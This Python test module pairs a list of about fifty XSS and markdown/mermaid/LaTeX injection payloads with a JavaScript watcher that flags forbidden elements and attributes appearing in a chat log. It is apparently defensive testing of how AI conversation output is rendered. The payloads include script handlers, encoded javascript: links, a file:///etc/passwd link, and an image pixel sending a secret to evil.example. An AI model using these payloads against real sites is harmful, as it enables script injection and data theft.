"""What a model, or a page that it read, may say to harm its reader; and a watch over what comes of it."""

from typing import Final

ATTACKS: Final = (
    "<script>owned()</script>",
    "<img src=x onerror=owned()>",
    "<svg onload=owned()><animate onbegin=owned() attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
    "<details open ontoggle=owned()><summary>look</summary></details>",
    '<a href="javascript:owned()">press</a>',
    '<form action="javascript:owned()"><button>press</button></form>',
    "<style>body { display: none }</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    "<!--><img src=x onerror=owned()>-->",
    '<object data="javascript:owned()"></object><embed src="javascript:owned()">',
    '<input autofocus onfocus="owned()">',
    "[a](javascript:owned())",
    "[b](JaVaScRiPt:owned())",
    "[c](  javascript:owned())",
    "[d](&#106;avascript:owned())",
    "[e](java&#x0A;script:owned())",
    "[f](javascript&colon;owned())",
    "[g](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+)",
    "[h](vbscript:owned())",
    "[i](blob:https://evil.example/1)",
    "[j](file:///etc/passwd)",
    "[k](//evil.example/x)",
    "[l](/api/v1/auth/logout)",
    "[m]: javascript:owned()\n\n[m] [press][m] ![press][m]",
    "<javascript:owned()>",
    "![n](javascript:owned())",
    '![o](x" onerror="owned())',
    "![p](https://evil.example/pixel.png?secret=1)",
    "![q](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkKCkiLz4=)",
    '[r](https://example.com "title" onmouseover="owned()")',
    '```js" onmouseover="owned()\nlet x = 1;\n```',
    "```html\n<img src=x onerror=owned()>\n```",
    "`<img src=x onerror=owned()>`",
    "$\\href{javascript:owned()}{x}$ and $\\htmlData{x=1}{y}$",
    "$$\\includegraphics{https://evil.example/x.png} \\url{javascript:owned()}$$",
    "$\\def\\x{\\x\\x}\\x$",
    '```mermaid\nflowchart LR\n  a["<img src=x onerror=owned()>"] --> b\n  click a href "javascript:owned()"\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  a["<iframe>"]\n  click a call owned()\n```',
    "```mermaid\nstateDiagram-v2\n  s1: <img src=x onerror=owned()><<img src=x onerror=owned()>>\n```",
    "```mermaid\ngantt\n  title <img src=x onerror=owned()>\n  section A\n  t1 :a1, 2024-01-01, 30d\n```",
    "```mermaid\ntimeline\n  title x\n  2002 : <img src=x onerror=owned()>\n```",
    "| <img src=x onerror=owned()> | b |\n|---|---|\n| [x](javascript:owned()) | <script>owned()</script> |",
    "[^1]\n\n[^1]: <img src=x onerror=owned()> [x](javascript:owned())",
    "- [x] <input type=checkbox onclick=owned()>",
    "> <img src=x onerror=owned()>\n> [x](javascript:owned())",
    "www.evil.example javascript:owned() mailto:someone@example.com",
)

# Notes every element and attribute that must not be in a conversation, however shortly it is there.
WATCH: Final = """
(() => {
  window.offences = [];
  window.owned = () => window.offences.push("a script ran");
  const forbidden = new Set([
    "script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "details", "video", "audio",
  ]);
  const check = (element) => {
    if (element.closest("[role=log]") === null) return;
    const tell = (what) => window.offences.push(`${what}: ${element.outerHTML.slice(0, 200)}`);
    if (forbidden.has(element.localName)) tell("an element");
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc") tell(name);
      if (name === "href" && !/^(https?:|mailto:|#)/i.test(value)) tell(name);
      if (name === "src" && !/^data:image\\/(png|svg\\+xml)[;,]/.test(value)) tell(name);
      if (name === "action" || name === "formaction") tell(name);
    }
  };
  const checkAll = (node) => {
    if (node.nodeType !== Node.ELEMENT_NODE) return;
    check(node);
    node.querySelectorAll("*").forEach(check);
  };
  new MutationObserver((records) => {
    for (const { type, target, addedNodes } of records) {
      if (type === "attributes") check(target);
      addedNodes.forEach(checkAll);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
})();
"""
